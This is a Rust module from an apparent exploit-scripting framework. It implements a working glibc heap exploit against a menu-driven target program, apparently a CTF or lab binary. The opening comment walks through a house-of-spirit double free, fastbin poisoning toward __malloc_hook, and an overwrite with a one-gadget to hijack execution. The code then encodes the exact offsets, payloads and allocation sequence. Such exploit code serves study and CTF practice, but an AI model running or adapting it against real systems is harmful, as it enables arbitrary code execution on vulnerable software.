//! House of spirit into a fastbin dup, ending in a `__malloc_hook` overwrite.
//!
//! Works against glibc builds without tcache (2.30 no-tcache here). The
//! target leaks `puts` and its heap base, and its chunk name buffer sits
//! right before the pointer to the most recent chunk, so an overlong name
//! replaces that pointer.
//!
//! 1. `dup` and `safety` are two 0x70 chunks. `safety` sits between the two
//!    frees of `dup` so the fastbin head check does not fire.
//! 2. `spirit` is allocated with a name that overwrites its chunk pointer
//!    with the address of `dup`, so freeing `spirit` frees `dup` again.
//! 3. The next 0x70 request returns `dup` while it is still in the fastbin.
//!    Its fd is pointed at `__malloc_hook - 0x23`, where the top byte of a
//!    libc pointer (0x7f) makes a usable fake size field.
//! 4. Two refills drain `safety` and `dup`, the request after that is served
//!    from the fake chunk and overwrites `__malloc_hook` with a one-gadget.
//! 5. Any further malloc jumps to the one-gadget. The target never prints
//!    its data prompt again.

use crate::elf::{self, Elf};
use crate::leak::LeakLabels;
use crate::menu::user_info_exchanges;
use crate::payload::{AddrExpr, PayloadSpec};
use crate::script::{LeakPlan, Script};

pub const USER_INFO_SENT: &str = "UserInfoSent";
pub const CHUNKS_ALLOCATED: &str = "ChunksAllocated";
pub const SPIRIT_ALLOCATED: &str = "SpiritAllocated";
pub const DOUBLE_FREED: &str = "DoubleFreed";
pub const HOOK_OVERWRITTEN: &str = "HookOverwritten";
pub const HOOK_TRIGGERED: &str = "HookTriggered";

/// Request size served from the 0x70 fastbin
pub const FAST_SIZE: u64 = 0x68;

/// Offsets into the targeted library build plus the layout of the fake chunk
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Layout {
    pub puts: u64,
    pub malloc_hook: u64,
    pub one_gadget: u64,
    /// the fake chunk starts this far below `__malloc_hook`
    pub hook_chunk_delta: u64,
    /// distance from the fake chunk's user data to `__malloc_hook`
    pub hook_padding: usize,
    /// `dup`'s user data relative to the heap base
    pub dup_offset: u64,
}

impl Layout {
    pub fn new(puts: u64, malloc_hook: u64, one_gadget: u64) -> Self {
        Layout {
            puts,
            malloc_hook,
            one_gadget,
            hook_chunk_delta: 0x23,
            hook_padding: 0x13,
            dup_offset: 0x10,
        }
    }

    /// Symbol offsets from the library itself, the gadget has to be given
    pub fn from_elf(libc: &Elf, one_gadget: u64) -> Result<Self, elf::Error> {
        Ok(Layout::new(
            libc.symbol("puts")?,
            libc.symbol("__malloc_hook")?,
            one_gadget,
        ))
    }

    pub fn fake_chunk(&self) -> u64 {
        self.malloc_hook.wrapping_sub(self.hook_chunk_delta)
    }
}

pub fn script(layout: &Layout) -> Script {
    let leaks = LeakPlan { labels: LeakLabels::default(), symbol_offset: layout.puts };

    let filled = |byte: u8| PayloadSpec::new().fill(byte, 8);

    Script::new("house of spirit", leaks)
        .answer(user_info_exchanges(0, b"Broder"))
        .checkpoint(USER_INFO_SENT)

        .allocate_as("dup", FAST_SIZE, filled(b'A'), filled(b'A'))
        .allocate_as("safety", FAST_SIZE, filled(b'B'), filled(b'B'))
        .checkpoint(CHUNKS_ALLOCATED)

        // name overflows into the chunk pointer
        .allocate_as(
            "spirit",
            0x18,
            filled(b'C'),
            filled(b'C').addr(AddrExpr::Heap(layout.dup_offset)),
        )
        .checkpoint(SPIRIT_ALLOCATED)

        .free("dup")
        .free("safety")
        .free("spirit")
        .checkpoint(DOUBLE_FREED)

        .allocate(
            FAST_SIZE,
            PayloadSpec::new().addr(AddrExpr::Library(layout.fake_chunk())),
            filled(b'C'),
        )
        .allocate(FAST_SIZE, filled(b'D'), filled(b'D'))
        .allocate(FAST_SIZE, filled(b'E'), filled(b'E'))
        .allocate(
            FAST_SIZE,
            PayloadSpec::new()
                .fill(b'X', layout.hook_padding)
                .addr(AddrExpr::Library(layout.one_gadget)),
            filled(b'F'),
        )
        .checkpoint(HOOK_OVERWRITTEN)

        .allocate(1, PayloadSpec::empty(), PayloadSpec::empty())
        .checkpoint(HOOK_TRIGGERED)
        .tolerate_silence()
}
